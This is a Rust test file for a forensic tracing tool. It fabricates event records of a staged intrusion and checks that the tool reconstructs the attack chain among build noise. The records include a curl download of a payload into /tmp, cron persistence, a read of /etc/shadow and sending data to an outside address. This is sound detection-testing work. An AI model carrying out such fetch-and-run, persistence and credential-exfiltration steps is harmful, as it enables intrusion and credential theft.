//! `tracer story`, `file`, `user` and `conn`: an attack of which every row is known, among other events.

mod program;

use std::collections::BTreeSet;

use events::{Context, Raw};
use program::{Folder, event, printed, said, synthetic, tracer};
use serde_json::Value;
use synthetic::{BOOT, Event, Made, process};

/// A descriptor as files store it.
fn fd(number: i32, stands_for: &str) -> Vec<u8> {
    [&i64::from(number).to_le_bytes()[..], stands_for.as_bytes()].concat()
}

/// Rows of the attack with what goes on beside it between them.
struct Rows {
    made: Made,
    at: u64,
    noise: usize,
    count: u64,
}

impl Rows {
    /// `noise`: other events between two of the attack.
    fn new(made: Made, noise: usize) -> Rows {
        Rows { made, at: 0, noise, count: 0 }
    }

    fn add(&mut self, name: &str, who: Context<'_>, ret: i64, args: &[(&str, Raw<'_>)]) -> u64 {
        let other = process(900, 1, 1000, "builder", "/usr/bin/builder");
        for n in 0..self.noise {
            self.at += 1000;
            self.count += 1;
            let file = fd(5, &format!("/build/{}.o", n % 50));
            let call = if n % 2 == 0 { "read" } else { "write" };
            self.made.push(&Event { ret: 9, ..event(self.at, call, other, &[("fd", Raw::Bytes(&file))]) });
        }
        self.at += 1000;
        self.count += 1;
        self.made.push(&Event { ret, ..event(self.at, name, who, args) });
        self.count
    }

    fn fork(&mut self, parent: Context<'_>, child: u32) {
        let start = BOOT + u64::from(child) * 1_000_000;
        let pid = Raw::Number(child.into());
        self.add("sched_process_fork", parent, 0, &[("child_pid", pid), ("start_time", Raw::Number(start))]);
    }

    fn exec(&mut self, who: Context<'_>, path: &str, argv: &[u8]) {
        let path = Raw::Bytes(path.as_bytes());
        self.add("sched_process_exec", who, 0, &[("pathname", path), ("argv", Raw::Bytes(argv))]);
    }

    fn moves(&mut self, call: &str, who: Context<'_>, what: &str, bytes: i64) -> u64 {
        let file = fd(3, what);
        let name = if matches!(call, "sendto" | "recvfrom" | "connect") { "sockfd" } else { "fd" };
        self.add(call, who, bytes, &[(name, Raw::Bytes(&file))])
    }

    fn hook(&mut self, name: &str, who: Context<'_>, args: &[(&str, &str)]) {
        let args: Vec<_> = args.iter().map(|(name, text)| (*name, Raw::Bytes(text.as_bytes()))).collect();
        self.add(name, who, 0, &args);
    }
}

/// curl downloads a program, a shell makes it executable and has cron run it, and it sends something away. The number of that
/// last event comes with it.
fn attack(made: Made, noise: usize) -> (Made, u64) {
    let mut made = made;
    let init = process(1, 0, 0, "init", "/sbin/init");
    let cron = process(90, 1, 0, "cron", "/usr/sbin/cron");
    let shell = process(500, 1, 1000, "bash", "/usr/bin/bash");
    made.sides.push(synthetic::snapshot(&[
        init,
        cron,
        shell,
        process(900, 1, 1000, "builder", "/usr/bin/builder"),
    ]));
    made.sides.push(format::Side::Users(vec![format::User { host: 0, uid: 1000, name: "alice".into() }]));
    let mut rows = Rows::new(made, noise);
    // What happened to the name before the attack is of another file.
    let old = process(300, 1, 1000, "old", "/usr/bin/old");
    rows.moves("write", old, "/tmp/x", 10);
    rows.hook("security_inode_unlink", old, &[("pathname", "/tmp/x")]);
    rows.fork(shell, 600);
    let curl = process(600, 500, 1000, "curl", "/usr/bin/curl");
    rows.exec(curl, "/usr/bin/curl", b"curl\0-o\0/tmp/.x\0http://10.0.0.9/x\0");
    rows.moves("read", curl, "/lib/libc.so.6", 832);
    rows.moves("read", curl, "/etc/hosts", 100);
    rows.moves("connect", curl, "tcp 10.0.0.5:4000->10.0.0.9:80", 0);
    rows.moves("recvfrom", curl, "tcp 10.0.0.5:4000->10.0.0.9:80", 4096);
    let creates = [("pathname", Raw::Bytes(b"/tmp/.x")), ("flags", Raw::Number(0o1101))];
    rows.add("security_file_open", curl, 0, &creates);
    rows.moves("write", curl, "/tmp/.x", 4096);
    rows.fork(shell, 601);
    let mv = process(601, 500, 1000, "mv", "/usr/bin/mv");
    rows.exec(mv, "/usr/bin/mv", b"mv\0/tmp/.x\0/tmp/x\0");
    rows.hook("security_inode_rename", mv, &[("old_path", "/tmp/.x"), ("new_path", "/tmp/x")]);
    rows.add("fchmodat", shell, 0, &[("pathname", Raw::Bytes(b"/tmp/x"))]);
    rows.moves("write", shell, "/etc/cron.d/x", 30);
    rows.moves("read", cron, "/etc/crontab", 700);
    rows.moves("read", cron, "/etc/cron.d/x", 30);
    rows.fork(cron, 700);
    let run = process(700, 90, 0, "x", "/tmp/x");
    rows.exec(run, "/tmp/x", b"/tmp/x\0--go\0");
    rows.moves("read", run, "/etc/shadow", 900);
    // What comes later explains nothing.
    rows.moves("write", process(301, 1, 0, "late", "/usr/bin/late"), "/etc/shadow", 5);
    let last = rows.moves("sendto", run, "tcp 10.0.0.5:5000->10.0.0.66:443", 900);
    rows.moves("write", process(302, 1, 0, "later", "/usr/bin/later"), "/tmp/x", 5);
    (rows.made, last)
}

fn objects(arguments: &[&str]) -> Vec<Value> {
    let lines = printed(&[arguments, &["-o", "json"]].concat());
    lines.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

fn names(story: &[Value]) -> BTreeSet<String> {
    story.iter().map(|it| it["name"].as_str().expect("a name").to_owned()).collect()
}

#[test]
fn the_story_of_the_last_step_names_the_first_and_nothing_beside_it() {
    let folder = Folder::new();
    let (made, last) = attack(Made::new(), 5000);
    let file = folder.capture("attack.trz", made);
    assert!(last > 100_000, "{last} events");
    let of = format!("#{last}");
    let story = objects(&["story", &file, "--of", &of, "--back"]);
    let expected = [
        "tcp 10.0.0.5:5000 <-> 10.0.0.66:443",
        "x",
        "/tmp/x",
        "/tmp/.x",
        "mv",
        "curl",
        "tcp 10.0.0.5:4000 <-> 10.0.0.9:80",
        "/usr/bin/curl",
        "/usr/bin/mv",
        "bash",
        "cron",
        "/etc/cron.d/x",
        "init",
    ];
    let told = names(&story);
    for name in ["curl", "tcp 10.0.0.5:4000 <-> 10.0.0.9:80", "/etc/cron.d/x", "cron", "mv", "/tmp/.x"] {
        assert!(told.contains(name), "no {name} in {told:#?}");
    }
    let others: Vec<_> = told.iter().filter(|name| !expected.contains(&name.as_str())).collect();
    assert!(others.is_empty(), "{others:?} have nothing to do with it: {story:#?}");
    // What nobody wrote is counted, and so are libraries.
    let curl = story.iter().find(|it| it["name"] == "curl").expect("curl");
    assert_eq!(curl["folded"], serde_json::json!({"unwritten": 1, "libraries": 1, "hub": 0}));
    // Every edge names its events.
    for edge in story.iter().flat_map(|it| it["edges"].as_array().expect("edges")) {
        let (first, last) =
            (edge["first"].as_u64().expect("a number"), edge["last"].as_u64().expect("a number"));
        assert!(first <= last && last < 200_000, "{edge}");
    }
    let root = story.iter().find(|it| it["root"] == true).expect("a root");
    assert_eq!(root["edges"][0]["first"], last);
}

#[test]
fn effects_spread_from_what_was_downloaded() {
    let folder = Folder::new();
    let (made, _) = attack(Made::new(), 10);
    let file = folder.capture("attack.trz", made);
    let story = names(&objects(&["story", &file, "--of", "peer=10.0.0.9", "--forward"]));
    for name in ["curl", "/tmp/.x", "/tmp/x", "x", "tcp 10.0.0.5:5000 <-> 10.0.0.66:443"] {
        assert!(story.contains(name), "no {name} in {story:#?}");
    }
    for name in ["builder", "old", "late"] {
        assert!(!story.contains(name), "{name} in {story:#?}");
    }
}

#[test]
fn stories_begin_at_files_processes_and_peers_and_are_trees_and_graphs() {
    let folder = Folder::new();
    let (made, _) = attack(Made::new(), 3);
    let file = folder.capture("attack.trz", made);
    for of in ["path=/tmp/x", "pid=700", "peer=10.0.0.66:443", "path=/etc/cron.d/*"] {
        let text = printed(&["story", &file, "--of", of, "--back", "--utc"]);
        assert!(text.contains("bash 500"), "{of}: {text}");
    }
    let text = printed(&["story", &file, "--of", "peer=10.0.0.66:443", "--back", "--utc"]);
    assert!(text.contains("sent by x 700: /tmp/x --go"), "{text}");
    assert!(text.contains("executes /tmp/x"), "{text}");
    assert!(text.contains("renamed from /tmp/.x"), "{text}");
    let dot = printed(&["story", &file, "--of", "pid=700", "-o", "dot"]);
    assert!(dot.starts_with("digraph story {") && dot.contains("-> "), "{dot}");
    let mermaid = printed(&["story", &file, "--of", "pid=700", "-o", "mermaid"]);
    assert!(mermaid.starts_with("flowchart LR") && mermaid.contains("-->|"), "{mermaid}");
    for wrong in ["x", "path=tmp", "pid=x", "pid=4711", "#0", "#999999", "path=/nowhere"] {
        let output = tracer(&["story", &file, "--of", wrong]);
        assert_eq!(output.status.code(), Some(2), "{wrong}");
        assert!(said(&["story", &file, "--of", wrong]).contains(wrong.trim_start_matches('#')), "{wrong}");
    }
}

#[test]
fn stories_do_not_depend_on_blocks_and_threads() {
    let folder = Folder::new();
    let mut few = Made::new();
    few.rows_per_block = 7;
    let (whole, last) = attack(Made::new(), 3);
    let whole = folder.capture("whole.trz", whole);
    let small = folder.capture("small.trz", attack(few, 3).0);
    let of = format!("#{last}");
    let ask = |file: &str, threads: &str| {
        printed(&["story", file, "--of", &of, "--threads", threads, "-o", "json"])
    };
    let expected = ask(&whole, "1");
    assert_eq!(ask(&small, "1"), expected);
    assert_eq!(ask(&small, "3"), expected);
}

#[test]
fn a_file_says_who_did_what_with_it() {
    let folder = Folder::new();
    let (made, _) = attack(Made::new(), 3);
    let file = folder.capture("attack.trz", made);
    let lines: Vec<String> = objects(&["file", &file, "/tmp/x"])
        .iter()
        .map(|it| format!("{} {} {}", it["comm"].as_str().unwrap(), it["how"].as_str().unwrap(), it["bytes"]))
        .collect();
    assert_eq!(
        lines,
        [
            "old writes 10",
            "old removes \"\"",
            "mv renames \"\"",
            "bash changes mode or owner of \"\"",
            "x executes \"\"",
            "later writes 5"
        ]
    );
    let table = printed(&["file", &file, "/tmp/*", "--utc"]);
    assert!(
        table.lines().next().is_some_and(|line| line.contains("WHAT")) && table.contains("/tmp/.x"),
        "{table}"
    );
    let told = said(&["file", &file, "tmp"]);
    assert!(told.contains("in PATH file=tmp") && told.contains("relative path"), "{told}");
}

#[test]
fn a_user_and_a_peer_have_what_was_done() {
    let folder = Folder::new();
    let (made, _) = attack(Made::new(), 3);
    let file = folder.capture("attack.trz", made);
    let things: BTreeSet<String> = objects(&["user", &file, "alice"])
        .iter()
        .map(|it| format!("{} {}", it["how"].as_str().unwrap(), it["thing"].as_str().unwrap()))
        .collect();
    assert!(things.contains("writes /etc/cron.d/x") && things.contains("forks curl(600)"), "{things:#?}");
    assert!(!things.iter().any(|it| it.contains("/etc/shadow")), "{things:#?}");
    assert!(said(&["user", &file, "mallory"]).contains("mallory"));
    let all = objects(&["conn", &file]);
    assert_eq!(all.len(), 2);
    let one = objects(&["conn", &file, "--peer", "10.0.0.9:*"]);
    assert_eq!((&one[0]["received"], &one[0]["sent"]), (&4096.into(), &0.into()));
    assert_eq!(one[0]["processes"], serde_json::json!(["curl(600)"]));
    for peer in ["10.0.0.9", "10.0.0.9:80", "10.0.0.8/31", ":80"] {
        assert_eq!(objects(&["conn", &file, peer]), one, "{peer}");
    }
    let told = said(&["conn", &file, "evil.example.com"]);
    assert!(told.contains("no recorded answer of DNS names evil.example.com"), "{told}");
    assert!(said(&["conn", &file, "10.0.0"]).contains("is no address"));
}

/// What the filters find of a file is what `file` adds up, and of a peer what `conn` does.
#[test]
fn filters_ask_for_the_same_files_and_peers() {
    let folder = Folder::new();
    let (made, _) = attack(Made::new(), 3);
    let file = folder.capture("attack.trz", made);
    let events = |filters: &[&str]| -> BTreeSet<String> {
        let asked: Vec<&str> = filters.iter().flat_map(|filter| ["-f", filter]).collect();
        let rows = printed(&[&["replay", "-q", "-o", "json", &file], &asked[..]].concat());
        let name = |line: &str| {
            let row: Value = serde_json::from_str(line).expect("JSON");
            format!(
                "{} {}",
                row["processName"].as_str().expect("a name"),
                row["eventName"].as_str().expect("a name")
            )
        };
        rows.lines().map(name).collect()
    };
    let x = events(&["file=/tmp/x"]);
    for event in
        ["old write", "old security_inode_unlink", "mv security_inode_rename", "x sched_process_exec"]
    {
        assert!(x.contains(event), "{event} is not in {x:#?}");
    }
    assert!(!x.iter().any(|it| it.starts_with("builder")), "{x:#?}");
    assert_eq!(events(&["peer=10.0.0.9"]), events(&["peer=10.0.0.8/31:80"]));
    assert!(events(&["peer=10.0.0.9"]).contains("curl recvfrom"), "{:#?}", events(&["peer=10.0.0.9"]));
    let rest = events(&["file!=/build/*", "comm=builder"]);
    assert!(rest.is_empty(), "{rest:#?}");
}

/// A socket has no port of its own when it asks for a connection, and none when it is closed: it is one connection all the same.
#[test]
fn a_connection_is_one_line_from_asking_to_closing() {
    let folder = Folder::new();
    let mut rows = Rows::new(Made::new(), 0);
    let curl = process(600, 1, 1000, "curl", "/usr/bin/curl");
    let end = |port: u16, host: u8| [&[2, 0][..], &port.to_be_bytes(), &[10, 0, 0, host], &[0; 8]].concat();
    let state = |rows: &mut Rows, old: u64, new: u64, port: u16, cookie: u64| {
        let (local, remote) = (end(port, 5), end(443, 9));
        let args = [
            ("old_state", Raw::Number(old)),
            ("new_state", Raw::Number(new)),
            ("protocol", Raw::Number(6)),
            ("local_addr", Raw::Bytes(&local)),
            ("remote_addr", Raw::Bytes(&remote)),
            ("cookie", Raw::Number(cookie)),
        ];
        rows.add("inet_sock_set_state", curl, 0, &args);
    };
    state(&mut rows, 7, 2, 0, 1);
    state(&mut rows, 2, 1, 4242, 1);
    rows.moves("write", curl, "tcp 10.0.0.5:4242->10.0.0.9:443", 82);
    state(&mut rows, 1, 4, 4242, 1);
    state(&mut rows, 4, 5, 4242, 1);
    state(&mut rows, 5, 7, 0, 1);
    // Nobody listens: it never has a port that is seen.
    state(&mut rows, 7, 2, 0, 2);
    state(&mut rows, 2, 7, 0, 2);
    rows.moves("close", curl, "tcp 0.0.0.0:4243->10.0.0.9:0", 0);
    let file = folder.capture("c.trz", rows.made);
    let all = objects(&["conn", &file]);
    let told: Vec<String> =
        all.iter().map(|it| format!("{} {} {} {}", it["way"], it["local"], it["sent"], it["how"])).collect();
    assert_eq!(
        told,
        [r#""out" "10.0.0.5:4242" 82 "closed here""#, r#""out" "10.0.0.5:0" 0 "refused or no answer""#],
        "{all:#?}"
    );
    assert!(all[0]["begun"].is_i64() && all[0]["ended"].is_i64(), "{all:#?}");
    assert!(all.iter().all(|it| it["processes"] == serde_json::json!(["curl(600)"])), "{all:#?}");
}
